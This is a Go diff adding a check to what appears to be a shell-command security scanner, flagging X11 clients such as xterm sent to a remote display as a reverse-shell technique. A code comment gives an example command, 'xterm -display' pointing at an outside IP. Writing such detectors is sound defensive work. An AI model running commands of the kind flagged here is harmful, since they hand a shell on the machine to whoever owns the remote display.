@@ -30,6 +30,10 @@ func (s *scan) checkReverseShell(cs *cmdScan, src string) {
 	if s.enabled(rRevNetcat) {
 		s.checkNetcat(cs)
 	}
+	// Prefilter: "-display" / "--display" arguments and DISPLAY= settings.
+	if s.enabled(rRevX11Display) && (strings.Contains(src, "-display") || strings.Contains(src, "DISPLAY=")) {
+		s.checkX11Display(cs)
+	}
 	for i := range cs.views {
 		v := &cs.views[i]
 		if v.prog == "socat" && s.enabled(rRevSocat) {
@@ -83,6 +87,86 @@ func (s *scan) checkNetcat(cs *cmdScan) {
 			}
 		}
 	}
+}
+
+// checkX11Display flags X11 clients sent to a display on another host:
+// xterm -display 203.0.113.7:1 shows a terminal, and so a shell, on the
+// other host's screen. The display comes from -display / --display, or a
+// DISPLAY= assignment (before the command, through env, or exported).
+func (s *scan) checkX11Display(cs *cmdScan) {
+	report := func(v *cmdView, target string) {
+		prog := v.prog
+		if prog == "" {
+			prog = "the command"
+		}
+		s.add(rRevX11Display, prog+" connects to the X display "+target+" on another host: whoever owns that display gets its windows, and a terminal there is a shell on this machine; refuse it",
+			strings.TrimSpace(strings.Join(v.c.Assigns, " ")+" "+v.c.Name+" "+strings.Join(v.c.Args, " ")))
+	}
+	for i := range cs.views {
+		v := &cs.views[i]
+		for _, a := range v.c.Assigns {
+			if val, ok := strings.CutPrefix(a, "DISPLAY="); ok && remoteDisplay(val) {
+				report(v, val)
+				return
+			}
+		}
+		// "env DISPLAY=… xterm" and "sudo DISPLAY=… xterm" reach the
+		// wrapped command as Assigns; "export DISPLAY=…" keeps it in Args.
+		args := v.c.Args
+		for j, a := range args {
+			var val string
+			switch {
+			case a == "-display" || a == "--display":
+				if j+1 < len(args) {
+					val = args[j+1]
+				}
+			case strings.HasPrefix(a, "--display="):
+				val = a[len("--display="):]
+			case strings.HasPrefix(a, "DISPLAY=") && setsVariables(v.prog):
+				val = a[len("DISPLAY="):]
+			default:
+				continue
+			}
+			if remoteDisplay(val) {
+				report(v, val)
+				return
+			}
+		}
+	}
+}
+
+func setsVariables(prog string) bool {
+	switch prog {
+	case "export", "declare", "typeset", "readonly", "local":
+		return true
+	}
+	return false
+}
+
+// remoteDisplay reports whether an X display name ("host:N[.S]") names a
+// display on another host. Local forms are not: ":0", "unix:0",
+// "localhost:10.0" (ssh X forwarding), "127.0.0.1:0", "/tmp/…:0" (a
+// socket path). A name computed at run time ("$DISPLAY") is not judged.
+func remoteDisplay(d string) bool {
+	if strings.ContainsAny(d, "$`") {
+		return false
+	}
+	i := strings.LastIndexByte(d, ':')
+	if i < 0 {
+		return false // not a display name
+	}
+	host := strings.ToLower(d[:i])
+	for _, p := range []string{"tcp/", "inet/", "inet6/", "unix/"} {
+		host = strings.TrimPrefix(host, p)
+	}
+	host = strings.TrimSuffix(strings.TrimPrefix(host, "["), "]")
+	host = strings.TrimSuffix(host, ":") // "::1:0" splits as "::1" / "0"; "host::0" is DECnet
+	switch {
+	case host == "", host == "unix", host == "localhost", host == "::1", host == "::", host == "0.0.0.0",
+		strings.HasPrefix(host, "/"), strings.HasPrefix(host, "127."), strings.HasSuffix(host, ".localhost"):
+		return false
+	}
+	return true
 }
 
 var socketMarkers = []string{
